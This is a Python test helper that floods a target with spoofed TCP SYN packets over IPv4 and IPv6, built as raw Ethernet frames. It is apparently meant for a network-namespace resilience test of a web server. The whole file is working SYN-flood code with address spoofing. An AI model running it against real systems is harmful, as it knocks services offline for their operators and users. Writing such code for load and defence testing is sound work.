"""A bounded flood of spoofed TCP SYNs, as Ethernet frames on an AF_PACKET socket, for the
leanweb netns test (test_leanweb_synflood_netns.py). Run inside the attacker's namespace:

    python3 synflood.py IFACE DST_MAC SRC_MAC DST4 DST6 PORT COUNT RATE_PER_S SUBNET4_BASE SUBNET6_BASE

Sources are random hosts .100-.249 of the IPv4 subnet and random interface ids of the IPv6
/64 that no namespace owns, so SYN-ACKs to them are never answered. Half the SYNs are IPv4,
half IPv6, each with MSS, window scale, SACK-permitted and timestamps (as Linux sends them).
Prints one JSON line: {"sent": n, "seconds": s}. Headers are built with struct (RFC 791,
RFC 8200, RFC 9293); the kernel's own stack is not involved.
"""

from __future__ import annotations

import ipaddress
import json
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_syn(src_port: int, dst_port: int, seq: int, pseudo: bytes) -> bytes:
    # MSS 1460, SACK-permitted, timestamps, NOP, window scale 7: Linux's SYN options.
    options = struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2]) + struct.pack("!BBII", 8, 10, random.getrandbits(32), 0) \
        + bytes([1, 3, 3, 7])
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", src_port, dst_port, seq, 0, offset << 4, 0x02, 64240, 0, 0) + options
    csum = checksum(pseudo + struct.pack("!H", len(header)) + header)
    return header[:16] + struct.pack("!H", csum) + header[18:]


def frame4(src: ipaddress.IPv4Address, dst: ipaddress.IPv4Address, port: int) -> bytes:
    pseudo_base = src.packed + dst.packed + b"\0\x06"
    tcp = tcp_syn(random.randint(1024, 65535), port, random.getrandbits(32), pseudo_base)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64, 6, 0,
                     src.packed, dst.packed)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def frame6(src: ipaddress.IPv6Address, dst: ipaddress.IPv6Address, port: int) -> bytes:
    tcp_len = 40  # 20-byte header + 20 bytes of options
    pseudo = src.packed + dst.packed + struct.pack("!I", tcp_len) + b"\0\0\0\x06"
    tcp = tcp_syn6(random.randint(1024, 65535), port, random.getrandbits(32), pseudo)
    assert len(tcp) == tcp_len
    ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, src.packed, dst.packed)
    return ip + tcp


def tcp_syn6(src_port: int, dst_port: int, seq: int, pseudo: bytes) -> bytes:
    options = struct.pack("!BBH", 2, 4, 1440) + bytes([4, 2]) + struct.pack("!BBII", 8, 10, random.getrandbits(32), 0) \
        + bytes([1, 3, 3, 7])
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", src_port, dst_port, seq, 0, offset << 4, 0x02, 64240, 0, 0) + options
    csum = checksum(pseudo + header)
    return header[:16] + struct.pack("!H", csum) + header[18:]


def main(argv: list[str]) -> None:
    iface, dst_mac, src_mac, dst4, dst6, port, count, rate, base4, base6 = argv
    dst_mac_b = bytes.fromhex(dst_mac.replace(":", ""))
    src_mac_b = bytes.fromhex(src_mac.replace(":", ""))
    d4, d6 = ipaddress.IPv4Address(dst4), ipaddress.IPv6Address(dst6)
    b4, b6 = ipaddress.IPv4Address(base4), ipaddress.IPv6Address(base6)
    count_n, rate_n, port_n = int(count), float(rate), int(port)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    started = time.monotonic()
    sent = 0
    for i in range(count_n):
        if i % 2 == 0:
            src4 = b4 + random.randint(100, 249)
            payload, ethertype = frame4(src4, d4, port_n), 0x0800
        else:
            src6 = b6 + (0x5000_0000_0000_0000 | random.getrandbits(60))
            payload, ethertype = frame6(src6, d6, port_n), 0x86DD
        sock.send(dst_mac_b + src_mac_b + struct.pack("!H", ethertype) + payload)
        sent += 1
        ahead = sent / rate_n - (time.monotonic() - started)
        if ahead > 0:
            time.sleep(ahead)
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 3)}))


if __name__ == "__main__":
    main(sys.argv[1:])
